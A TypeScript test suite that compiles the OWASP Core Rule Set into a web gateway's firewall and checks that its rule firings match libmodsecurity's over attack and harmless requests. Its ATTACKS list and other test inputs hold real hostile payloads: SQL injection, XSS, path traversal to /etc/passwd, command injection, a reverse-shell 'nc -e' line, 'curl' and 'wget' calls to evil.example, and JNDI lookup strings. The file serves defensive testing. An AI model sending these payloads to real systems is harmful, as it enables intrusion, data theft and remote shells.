/** The OWASP CRS compiled into a gateway, rule by rule against libmodsecurity, over attacks and harmless requests; SqliMatch and XssMatch. */
import { cpSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { loadCrs } from '../../crs/index.js';
import { compile } from '../../index.js';
import { startBackend } from '../../testing/backend.js';
import { rawRequest, runGateway } from '../../testing/running-gateway.js';
import { libmodsecurity } from '../../../runtime/waf/testing/libmodsecurity.js';

const test = suite('OWASP CRS');
/** Where Debian's modsecurity-crs has it. */
const CRS = process.env['CRS'] ?? '/usr/share/modsecurity-crs/rules';
const isThere = existsSync(CRS);
const folder = mkdtempSync(join(tmpdir(), 'gwc-crs-'));
test.after(() => rmSync(folder, { recursive: true }));

const NONE = [{ Priority: 0, Type: 'NONE' }];
const VISIBILITY = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: 'm' };
const acl = (...Rules: unknown[]): object => ({ Name: 'acl', DefaultAction: { Allow: {} }, VisibilityConfig: VISIBILITY, Rules: Rules.map((rule, Priority) => ({ Name: `rule${Priority}`, Priority, VisibilityConfig: VISIBILITY, ...(rule as object) })) });

async function gatewayOf(webAcl: object, upstream: string, more: object = {}, crs = CRS) {
  const path = join(folder, 'spec.json');
  const operation = { responses: { 200: { description: 'ok' } }, 'x-amazon-apigateway-integration': { type: 'http_proxy', httpMethod: 'ANY', uri: `${upstream}/` } };
  writeFileSync(path, JSON.stringify({ openapi: '3.0.1', info: { title: 't', version: '1' }, 'x-gwc-flavour': 'rest', 'x-gwc': { webAcl: { ...webAcl, ...more } }, paths: { '/': { 'x-amazon-apigateway-any-method': operation }, '/{proxy+}': { parameters: [{ name: 'proxy', in: 'path', required: true, schema: { type: 'string' } }], 'x-amazon-apigateway-any-method': operation } } }));
  const { bundle, diagnostics } = await compile(path, { clients: [], crs });
  assert.ok(bundle, JSON.stringify(diagnostics));
  return { gateway: await runGateway(bundle.code), diagnostics };
}

const ATTACKS = [
  "' or 1=1--", "1' UNION SELECT username, password FROM users--", '1; DROP TABLE users', "'; exec xp_cmdshell('dir')--", "1 AND SLEEP(5)", "1 and benchmark(10000000,md5(1))", 'select * from information_schema.tables', "admin'/*", '1 waitfor delay \'0:0:5\'', "' and extractvalue(1,concat(0x7e,version()))--",
  "1' having 1=1", 'load_file(0x2f6574632f706173737764)', "' or 'a'='a", '%2527%20or%201=1', "-1' union/**/all/**/select/**/1,2", "1' or pg_sleep(5)--", 'northwind', "'; shutdown --", 'procedure analyse(', 'sqlite_master',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', 'javascript:alert(1)', '<iframe src=javascript:alert(1)>', '"><script src=//evil.example>', '<body onload=alert(1)>', '&lt;script&gt;alert(1)', '\\u003cscript\\u003e', '<a href="java&#x0a;script:alert(1)">', '<style>@import url(evil)</style>', '<object data=x>', '<meta http-equiv=refresh>', 'document.cookie', '<applet code=x>', '<link rel=stylesheet href=x>', '<base href=//evil>', 'vbscript:msgbox(1)', '<x style=expression(alert(1))>', '+ADw-script+AD4-',
  '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '/etc/shadow', '....//....//etc/hosts', 'c:\\boot.ini', '.htaccess', '/proc/self/environ', 'http://127.0.0.1/x.txt?', 'ftp://user@evil.example/shell.txt', 'http://evil.example/shell.txt?cmd=id',
  '; cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example)', '&& ping -c 1 127.0.0.1', '() { :;}; /bin/bash', 'cmd.exe /c dir', ';wget http://evil/x', 'powershell.exe -enc', '/bin/sh -c id', '; ls -la', 'nc -e /bin/sh 1.2.3.4 99', '&net user', 'python -c "import os"',
  '<?php system($_GET[1]); ?>', 'phpinfo()', 'eval(base64_decode($_POST[x]))', 'php://input', '$_SERVER[PATH]', 'O:8:"stdClass":0:{}', 'allow_url_include=1', 'shell_exec(1)', 'data://text/plain;base64,xx', '$_GET["x"]',
  '_$$ND_FUNC$$_function(){}', 'require("child_process").exec', 'process.env', '${jndi:ldap://evil.example/a}', 'java.lang.Runtime', 'java.lang.ProcessBuilder', '#{7*7}', '%{(#a=@java.lang.Runtime@getRuntime())}', 'rO0ABXNyABFqYXZh', 'com.opensymphony.xwork2',
  'safe_mode=off disable_functions=x', 'auto_prepend_file=php://input', 'java.lang.Runtime.getRuntime().exec("id")', 'clonetransformer java.io.unmarshaller', 'org.apache.xalan ProcessBuilder forname',
  '\r\nSet-Cookie: a=b', '%0d%0aLocation: x', 'HTTP/1.1 200 OK', '\n\nGET / HTTP/1.1', '.cookie; expires=', '<!--#exec cmd="ls"-->', '%00', 'a\u0001b', '(&(uid=*)(userPassword=*))', '*)(uid=*))(|(uid=*',
];
const HARMLESS = [
  'hello world', "O'Reilly", 'a & b', '5 > 3', 'select a colour', 'union station', 'order by phone', 'Café', '日本語', 'mail@example.com', 'https://example.com/a?b=c', '2024-01-01T00:00:00Z', '{"a": [1, 2]}', '1,2,3', '100%', 'C++ and C#', 'the cat sat', 'Lorem ipsum dolor sit amet, consectetur adipiscing elit.', 'x'.repeat(300), '-1', '3.14e10', 'yes/no', 'a=b', 'drop me a line', 'script writer', 'on error resume', 'user name', '550e8400-e29b-41d4-a716-446655440000', '+49 30 1234', '"quoted"',
];

interface Case { readonly method: string; readonly target: string; readonly fields: [string, string][]; readonly body: string }
const BASE: readonly [string, string][] = [['Host', 'shop.example.com'], ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36'], ['Accept', 'text/html,*/*']];

/** The same text at several places. */
function cases(): Case[] {
  const encode = (text: string): string => encodeURIComponent(text).replace(/'/g, '%27');
  const isField = (text: string): boolean => /^[\x20-\x7e]*$/.test(text) && text.trim() === text;
  return [...ATTACKS, ...HARMLESS].flatMap((text): Case[] => [
    { method: 'GET', target: `/shop?q=${encode(text)}&page=1`, fields: [...BASE], body: '' },
    { method: 'GET', target: `/shop?${encode(text)}=1`, fields: [...BASE], body: '' },
    { method: 'POST', target: '/order', fields: [...BASE, ['Content-Type', 'application/x-www-form-urlencoded'], ['Content-Length', String(`note=${encode(text)}&id=7`.length)]], body: `note=${encode(text)}&id=7` },
    ...(isField(text) && !text.includes(';') ? [{ method: 'GET', target: '/cart', fields: [...BASE, ['Cookie', `session=abc; last=${text}`] as [string, string]], body: '' }] : []),
    ...(isField(text) ? [{ method: 'GET', target: '/list', fields: [BASE[0]!, ['User-Agent', text] as [string, string], BASE[2]!, ['Referer', text] as [string, string]], body: '' }] : []),
    ...(/^[\x21-\x7e]+$/.test(text) && !/[?#%]/.test(text) ? [{ method: 'GET', target: `/files/${encode(text)}`, fields: [...BASE], body: '' }] : []),
  ]);
}

/** What rules of multipart bodies, of variables of their own and of XML look at. */
function protocolCases(): Case[] {
  const post = (type: string, body: string, more: [string, string][] = []): Case => ({ method: 'POST', target: '/upload', fields: [...BASE, ['Content-Type', type], ['Content-Length', String(Buffer.byteLength(body, 'latin1'))], ...more], body });
  const get = (target: string, more: [string, string][] = []): Case => ({ method: 'GET', target, fields: [...BASE, ...more], body: '' });
  const part = (disposition: string, content: string, more = ''): string => `--XyZ\r\nContent-Disposition: form-data; ${disposition}\r\n${more}\r\n${content}\r\n`;
  const multipart = (parts: string, type = 'multipart/form-data; boundary=XyZ'): Case => post(type, `${parts}--XyZ--\r\n`);
  const texts = ['hello', '<script>alert(1)</script>', "' or 1=1--", '../../etc/passwd', '; cat /etc/passwd', '<?php system(1); ?>', '() { :;}; x', '${jndi:ldap://e}', 'a\x00b', '_charset_'];
  const files = ['photo.jpg', 'shell.php', 'x.phtml.', 'web.config', '.htaccess', 'a.jsp', "it's.txt", 'a=b.txt', 'a;b.txt', 'r&eacute;sum&eacute;.txt', '() { x', '.env', 'C:\\\\x\\\\boot.ini', ''];
  return [
    ...texts.flatMap((text) => [multipart(part('name="note"', text)), multipart(part(`name="${text.replace(/["\0]/g, '')}"`, 'x')), multipart(part('name="a"', 'first') + part('name="b"', text) + part('name="f"; filename="x.txt"', text, 'Content-Type: text/plain\r\n')), post('text/xml', `<?xml version="1.0"?><a><b c="d">${text.replace(/[<&\0]/g, '_')}</b><!-- ${text.replace(/[-<&\0]/g, '')} --><c><![CDATA[${text.replace(/\0/g, '')}]]></c></a>`), post('application/json', JSON.stringify({ a: [text], b: { c: text } }))]),
    ...files.flatMap((file) => [multipart(part(`name="f"; filename="${file}"`, 'content', 'Content-Type: text/plain\r\n')), multipart(part(`name=f; filename="${file}"`, 'x')), get('/', [['X-Filename', file || 'none']])]),
    ...['text/plain; charset=utf-8', 'text/plain; charset=evil', 'application/x-php', 'text/html, x/y', 'text/plain; charset=utf-8; charset=x', ''].map((type) => multipart(part('name="f"; filename="a"', 'x', `Content-Type: ${type}\r\n`))),
    multipart(part('name="f"', 'x', 'Content-Transfer-Encoding: base64\r\n')), multipart(part('name="_charset_"', 'utf-7')), multipart(part('name="_charset_"', 'utf-8')), multipart(part('name="f"; filename="big.txt"', 'y'.repeat(400))), multipart(part('name="a"', 'x'), 'multipart/form-data; boundary="XyZ"'), multipart('preamble\r\n' + part('name="a"', '<script>')),
    multipart(part('name="a"', "line one\r\n--XyZZ is none\r\n' or 1=1--")), post('multipart/form-data', 'no boundary'),
    ...['application/json', 'application/x-www-form-urlencoded', 'text/plain', 'application/evil', 'TEXT/XML; charset=UTF-8', 'application/json; charset=utf-7', 'application/json; charset="iso-8859-1"', 'text/xml;charset=x;y', 'application/json; charset=windows-1252'].map((type) => post(type, type.includes('json') ? '{"a":"b"}' : type.includes('form') ? 'a=b' : /xml/i.test(type) ? '<a>b</a>' : 'text')),
    ...['bytes=0-100', 'bytes=100-0', 'bytes=5-5', 'bytes=1-2,9-3', 'bytes=x', `bytes=${'0-1,'.repeat(70)}`].map((range) => get('/', [['Range', range]])),
    ...['/a.bak', '/b.sql', '/c.ini.txt', '/d.CONFIG', '/e.png', '/f', '/g.tar.gz', '/h.', '/i%2ebak', '/j.exe', '/.git'].map((path) => get(path)),
    ...['Proxy', 'Lock-Token', 'Content-Range', 'Translate', 'If', 'X-Harmless', 'content-encoding', 'Accept-Charset', 'X-HTTP-Method-Overrides'].map((name) => get('/', [[name, 'x']])),
    ...['http://shop.example.com/x', 'http://evil.example/x', 'https://evil.example', 'ftp://shop.example.com/'].flatMap((referer) => [get('/?jsessionid=1', [['Referer', referer]]), get('/?PHPSESSID=1&x=2', [['Referer', referer]])]),
    ...['http://evil.example/a', 'https://shop.example.com/a', 'ftp://evil', 'file:///etc/passwd', 'HTTP://X.shop.example.com/'].map((url) => get(`/?u=${encodeURIComponent(url)}&v=1`)),
    get('/?a=1&a=2'), get('/?a=1&b=2&c=3'), get('/?a=1&a=2&b=3&b=4&a=5'), get(`/?${Array.from({ length: 8 }, (_, at) => `p${at}=1`).join('&')}`), get(`/?${'n'.repeat(70)}=1`), get(`/?a=${'v'.repeat(700)}`), get('/?a=%ff%fe'), get('/?a=%c3%a9'), get('/?a=%ed%a0%80'), get('/?a=%c0%af'),
    ...["/?a=$(x) /'b", "/?a=/e?c/p*s /x", "/?a=`x`/ y", '/?a=a*b c/d'].map((target) => get(target.replace(/ /g, '%20'))),
    ...['text/html', '*/*', 'text/html;q=0.9,*/*', 'evil', 'text/html; charset=utf-8', 'text/html; charset=utf-7', `text/html${';a=b'.repeat(20)}`].map((accept): Case => ({ method: 'GET', target: '/', fields: [BASE[0]!, BASE[1]!, ['Accept', accept]], body: '' })),
  ];
}

/** So that rules about sizes and numbers are on. */
const SETTINGS = { max_num_args: 5, arg_name_length: 60, arg_length: 400, total_arg_length: 500, max_file_size: 600, combined_file_sizes: 300, crs_validate_utf8_encoding: 1 };

test('which rules fire: as libmodsecurity', async () => {
  if (!isThere) return console.log(`no CRS at ${CRS}: not compared`);
  const crs = loadCrs(CRS, '/', { paranoiaLevel: 4, threshold: 5, own: new Map(Object.entries(SETTINGS).map(([name, value]) => [name, String(value)])) });
  assert.ok(typeof crs !== 'string', String(crs));
  const ids = crs.rules(new Set()).rules.filter(({ score }) => score > 0).map(({ id }) => id);
  assert.ok(ids.length > 190, String(ids.length));
  const all = [...cases(), ...protocolCases()];
  const theirs = libmodsecurity([
    'SecRuleEngine DetectionOnly', 'SecRequestBodyAccess On', 'SecDefaultAction "phase:1,log,pass"', 'SecDefaultAction "phase:2,log,pass"', 'SecAction "id:1,phase:1,pass,nolog,setvar:tx.crs_setup_version=330,setvar:tx.paranoia_level=4"',
    ...Object.entries(SETTINGS).map(([name, value], index) => `SecAction "id:${index + 10},phase:1,pass,nolog,setvar:tx.${name}=${value}"`),
    // As modsecurity.conf-recommended has it.
    'SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"', 'SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"',
    ...['901', '911', '913', '920', '921', '922', '930', '931', '932', '933', '934', '941', '942', '943', '944'].map((family) => `Include ${CRS}/REQUEST-${family}-*.conf`),
  ].join('\n'), all.map(({ method, target, fields, body }) => ({ method, uri: target, headers: [...fields, ['Connection', 'close'] as const], body })));
  if (!theirs) return console.log('libmodsecurity is not installed: not compared');

  const backend = await startBackend();
  const { gateway, diagnostics } = await gatewayOf(acl(
    { Statement: { ManagedRuleGroupStatement: { VendorName: 'OWASP', Name: 'CRS' } }, OverrideAction: { Count: {} } },
    ...ids.map((id) => ({ Statement: { LabelMatchStatement: { Scope: 'LABEL', Key: `awswaf:managed:owasp:crs:${id}` } }, Action: { Count: { CustomRequestHandling: { InsertHeaders: [{ Name: `crs-${id}`, Value: 'fired' }] } } } })),
  ), backend.url, { crs: { paranoiaLevel: 4, settings: SETTINGS } });
  try {
    assert.match(diagnostics.find(({ code }) => code === 'GWC2973')?.message ?? '', /^206 of 207 CRS rules are compiled; not: 942130 \(a back-reference/);
    const detectors = new Set(['941100', '941101', '942100', '942101']);
    let detected = 0, missed = 0;
    const differences: string[] = [];
    let firings = 0, compared = 0;
    const distinct = new Set<string>();
    for (const [index, { method, target, fields, body }] of all.entries()) {
      backend.received.length = 0;
      const { status } = await rawRequest(gateway.port, method, target, [...fields], body);
      // What the server itself refuses (a control character in the path) no rule sees.
      if (backend.received.length === 0) { assert.is(status, 400, target); continue; }
      compared++;
      const ours = Object.keys(backend.received[0]!.headers).flatMap((name) => /^x-amzn-waf-crs-(\d+)$/.exec(name)?.[1] ?? []).sort();
      const expected = [...new Set(theirs[index]!.map(({ id }) => id))].filter((id) => ids.includes(id)).sort();
      firings += ours.length;
      for (const id of ours) distinct.add(id);
      const more = ours.filter((id) => !expected.includes(id) && !detectors.has(id)), less = expected.filter((id) => !ours.includes(id) && !detectors.has(id));
      // Detectors of our own: they find all that libinjection finds, and some of these attacks that it does not.
      for (const id of detectors) if (ours.includes(id) || expected.includes(id)) { detected++; if (!ours.includes(id)) missed++; if (process.env['VERBOSE'] && ours.includes(id) !== expected.includes(id)) console.log(`${id} ${ours.includes(id) ? 'ours' : 'theirs'} only: ${method} ${target} ${JSON.stringify(fields.slice(3))} ${body.slice(0, 200)}`); }
      // It keeps the line's end in a part's Content-Type and takes `charset=utf-8` for a charset that is not allowed.
      if (less.join() === '922110' && /charset=utf-8\r\n/.test(body)) continue;
      if (more.length + less.length > 0) differences.push(`${method} ${target} ${JSON.stringify(fields.slice(3))} ${body}: too many ${more.join()}, missing ${less.join()}`);
    }
    if (process.env['VERBOSE']) console.log(`${compared} requests, ${firings} firings of ${distinct.size} rules, ${differences.length} differences`);
    if (process.env['VERBOSE']) for (const difference of differences) console.log(difference.slice(0, 400));
    assert.equal(differences.slice(0, 10), [], `${differences.length} of ${compared}`);
    if (process.env['VERBOSE']) console.log(`detectors: ${detected} firings, ${missed} missed`);
    assert.ok(detected > 100, String(detected));
    assert.is(missed, 0);
    assert.ok(compared > 500 && firings > 500 && distinct.size > 50, `${compared} requests, ${firings} firings of ${distinct.size} rules`);
  } finally {
    await gateway.stop();
    await backend.close();
  }
});

test('names are counted behind any number of others', async () => {
  if (!isThere) return console.log(`no CRS at ${CRS}: not compared`);
  const backend = await startBackend();
  const { gateway } = await gatewayOf(acl(
    { Statement: { ManagedRuleGroupStatement: { VendorName: 'OWASP', Name: 'CRS' } }, OverrideAction: { Count: {} } },
    { Statement: { LabelMatchStatement: { Scope: 'LABEL', Key: 'awswaf:managed:owasp:crs:921180' } }, Action: { Block: {} } },
  ), backend.url, { crs: { paranoiaLevel: 3 } });
  const names = (count: number, first: string): string => Array.from({ length: count }, (_, i) => `${first}${i}`).join('&');
  try {
    for (const [last, status] of [['x=1', 200], ['x=1&x=2', 403]] as const) {
      const body = `${names(1_000, 'b')}&${last}`;
      const answer = await rawRequest(gateway.port, 'POST', `/?${names(1_500, 'q')}`, [['Host', 'shop.example.com'], ['Content-Type', 'application/x-www-form-urlencoded'], ['Content-Length', String(body.length)]], body);
      assert.is(answer.status, status, last);
    }
  } finally {
    await gateway.stop();
    await backend.close();
  }
});

test('a range of more bits than an address has is named, not left without anybody in it', () => {
  if (!isThere) return console.log(`no CRS at ${CRS}: not compared`);
  const own = join(folder, 'ranges');
  cpSync(CRS, own, { recursive: true });
  writeFileSync(join(own, 'REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf'), ['10.0.0.0/32', '10.0.0.0/33', '::1/128', '::1/129'].map((range, i) => `SecRule REMOTE_ADDR "@ipMatch ${range}" "id:${1000 + i},phase:1,pass,nolog,ctl:ruleRemoveById=942100"`).join('\n'));
  const crs = loadCrs(own, '/', { paranoiaLevel: 1, threshold: 5 });
  assert.ok(typeof crs !== 'string', String(crs));
  assert.equal(crs.notCompiled.filter(({ reason }) => /ipMatch/.test(reason)).map(({ reason }) => /@ipMatch (\S+?)['"]?$/.exec(reason)?.[1] ?? reason), ['10.0.0.0/33', '::1/129']);
});

test('exclusions, for all requests and for some: as libmodsecurity', async () => {
  if (!isThere) return console.log(`no CRS at ${CRS}: not compared`);
  const own = join(folder, 'rules');
  cpSync(CRS, own, { recursive: true });
  writeFileSync(join(own, 'REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf'), [
    'SecRule REQUEST_URI "@beginsWith /admin" "id:1000,phase:1,pass,nolog,t:none,ctl:ruleRemoveById=941000-941999"',
    'SecRule REQUEST_FILENAME "@streq /login" \\\n  "id:1001,phase:1,pass,nolog,\\\n  ctl:ruleRemoveTargetById=942360;ARGS:password,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:password"',
    'SecRule REQUEST_HEADERS:X-Trusted "@streq yes" "id:1002,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:note"',
    'SecRule REQUEST_METHOD "@streq POST" "id:1003,phase:1,pass,nolog,chain"', '  SecRule REQUEST_HEADERS:X-Hook "@rx ^[a-z]+$" "ctl:ruleRemoveByTag=attack-rce"',
    'SecRule REQUEST_HEADERS:X-Health "@streq 1" "id:1004,phase:1,pass,nolog,ctl:ruleEngine=Off"',
    'SecRule REMOTE_ADDR "@ipMatch 10.0.0.0/8,127.0.0.1,::1" "id:1006,phase:1,pass,nolog,chain"', '  SecRule REQUEST_HEADERS:X-Local "@streq 1" "ctl:ruleRemoveById=932160"', 'SecRule REMOTE_ADDR "@ipMatch 10.0.0.0/8" "id:1007,phase:1,pass,nolog,ctl:ruleRemoveById=942000-942999"',
    'SecAction "id:1005,phase:1,pass,nolog,ctl:ruleRemoveTargetById=930110;ARGS:file"',
  ].join('\n'));
  writeFileSync(join(own, 'RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf'), ['SecRuleRemoveById 930120 933000-933999', 'SecRuleUpdateTargetById 930100 "!ARGS:file|!REQUEST_URI_RAW"', 'SecRuleRemoveByTag "attack-nodejs"'].join('\n'));
  const crs = loadCrs(own, '/', { paranoiaLevel: 1, threshold: 5 });
  assert.ok(typeof crs !== 'string', String(crs));
  assert.equal(crs.notCompiled.filter(({ reason }) => !/setting/.test(reason)), []);
  const detectors = new Set(['941100', '942100']);
  const ids = crs.rules(new Set()).rules.filter(({ id, score }) => score > 0 && !detectors.has(id)).map(({ id }) => id);
  assert.not(ids.includes('930120') || ids.includes('933100'));
  const attacks = ["' union select password from users--", '<script>alert(1)</script>', '../../etc/passwd', '; cat /etc/passwd', '<?php phpinfo() ?>', '${jndi:ldap://e}', 'require("child_process")'];
  const all = attacks.flatMap((text): Case[] => ['/', '/admin', '/login'].flatMap((path) => ['q', 'password', 'note', 'file'].flatMap((name) => [[], [['X-Trusted', 'yes']], [['X-Hook', 'abc']], [['X-Health', '1']], [['X-Local', '1']]].map((more): Case => {
    const body = `${name}=${encodeURIComponent(text)}&a=1`, isPost = more[0]?.[0] === 'X-Hook';
    return isPost ? { method: 'POST', target: path, fields: [...BASE, ['Content-Type', 'application/x-www-form-urlencoded'], ['Content-Length', String(body.length)], ...more as [string, string][]], body } : { method: 'GET', target: `${path}?${body}`, fields: [...BASE, ...more as [string, string][]], body: '' };
  }))));
  const theirs = libmodsecurity([
    'SecRuleEngine DetectionOnly', 'SecRequestBodyAccess On', 'SecDefaultAction "phase:1,log,pass"', 'SecDefaultAction "phase:2,log,pass"', 'SecAction "id:1,phase:1,pass,nolog,setvar:tx.crs_setup_version=330"',
    ...['REQUEST-901-*', 'REQUEST-900-EXCLUSION-RULES-BEFORE-CRS', ...['911', '913', '920', '921', '922', '930', '931', '932', '933', '934', '941', '942', '943', '944'].map((family) => `REQUEST-${family}-*`), 'RESPONSE-999-EXCLUSION-RULES-AFTER-CRS'].map((name) => `Include ${own}/${name}.conf`),
  ].join('\n'), all.map(({ method, target, fields, body }) => ({ method, uri: target, headers: [...fields, ['Connection', 'close'] as const], body })));
  if (!theirs) return console.log('libmodsecurity is not installed: not compared');
  const backend = await startBackend();
  const { gateway } = await gatewayOf(acl(
    { Statement: { ManagedRuleGroupStatement: { VendorName: 'OWASP', Name: 'CRS' } }, OverrideAction: { Count: {} } },
    ...ids.map((id) => ({ Statement: { LabelMatchStatement: { Scope: 'LABEL', Key: `awswaf:managed:owasp:crs:${id}` } }, Action: { Count: { CustomRequestHandling: { InsertHeaders: [{ Name: `crs-${id}`, Value: 'fired' }] } } } })),
  ), backend.url, {}, own);
  try {
    let firings = 0;
    const differences: string[] = [];
    for (const [index, { method, target, fields, body }] of all.entries()) {
      backend.received.length = 0;
      await rawRequest(gateway.port, method, target, [...fields], body);
      const ours = Object.keys(backend.received[0]!.headers).flatMap((name) => /^x-amzn-waf-crs-(\d+)$/.exec(name)?.[1] ?? []).sort();
      const expected = [...new Set(theirs[index]!.map(({ id }) => id))].filter((id) => ids.includes(id)).sort();
      firings += ours.length;
      if (ours.join() !== expected.join()) differences.push(`${method} ${target} ${JSON.stringify(fields.slice(3))} ${body}: ${ours.join()}, libmodsecurity ${expected.join()}`);
    }
    if (process.env['VERBOSE']) console.log(`${all.length} requests with exclusions, ${firings} firings, ${differences.length} differences`);
    assert.equal(differences.slice(0, 8), [], String(differences.length));
    assert.ok(firings > 200, String(firings));
  } finally {
    await gateway.stop();
    await backend.close();
  }
});

test('SqliMatch and XssMatch; the whole set blocks by its score', async () => {
  if (!isThere) return console.log(`no CRS at ${CRS}: not tested`);
  const backend = await startBackend();
  const field = { FieldToMatch: { AllQueryArguments: {} }, TextTransformations: [{ Priority: 0, Type: 'URL_DECODE' }] };
  const { gateway } = await gatewayOf(acl(
    { Statement: { SqliMatchStatement: field }, Action: { Block: { CustomResponse: { ResponseCode: 490 } } } },
    { Statement: { XssMatchStatement: field }, Action: { Block: { CustomResponse: { ResponseCode: 491 } } } },
    { Statement: { XssMatchStatement: { FieldToMatch: { Body: {} }, TextTransformations: NONE } }, Action: { Block: { CustomResponse: { ResponseCode: 492 } } } },
    { Statement: { ManagedRuleGroupStatement: { VendorName: 'OWASP', Name: 'CRS', ExcludedRules: [{ Name: '920350' }], ScopeDownStatement: { NotStatement: { Statement: { ByteMatchStatement: { SearchString: '/open', FieldToMatch: { UriPath: {} }, TextTransformations: NONE, PositionalConstraint: 'STARTS_WITH' } } } } } }, OverrideAction: { None: {} } },
  ), backend.url);
  const status = async (target: string, body = '', fields: [string, string][] = []): Promise<number> => (await rawRequest(gateway.port, body === '' ? 'GET' : 'POST', target, [...BASE, ...fields], body)).status;
  try {
    assert.is(await status('/?q=1%27%20UNION%20SELECT%20a%20FROM%20b--'), 490);
    assert.is(await status('/?q=%3Cscript%3Ealert(1)%3C/script%3E'), 491);
    assert.is(await status('/', '<script>alert(1)</script>', [['Content-Type', 'text/plain']]), 492);
    assert.is(await status('/?file=../../etc/passwd'), 403);
    assert.is(await status('/open?file=../../etc/passwd'), 200);
    assert.is(await status('/', '{"a": {"b": "; cat /etc/passwd"}}', [['Content-Type', 'application/json']]), 403);
    assert.is(await status('/?q=hello'), 200);
    assert.is(await status('/', '{"a": "hello"}', [['Content-Type', 'application/json']]), 200);
    // Hostile texts take no time: what is matched is read once.
    for (const text of ["'".repeat(16_000), '<a '.repeat(5_000), '('.repeat(16_000), 'select '.repeat(2_000), '/*'.repeat(8_000), 'a=&'.repeat(5_000)]) {
      const started = performance.now();
      await status('/', `x=${text}`, [['Content-Type', 'application/x-www-form-urlencoded']]);
      assert.ok(performance.now() - started < 5_000, `${text.slice(0, 10)}: ${performance.now() - started} ms`);
    }
  } finally {
    await gateway.stop();
    await backend.close();
  }
});

test.run();
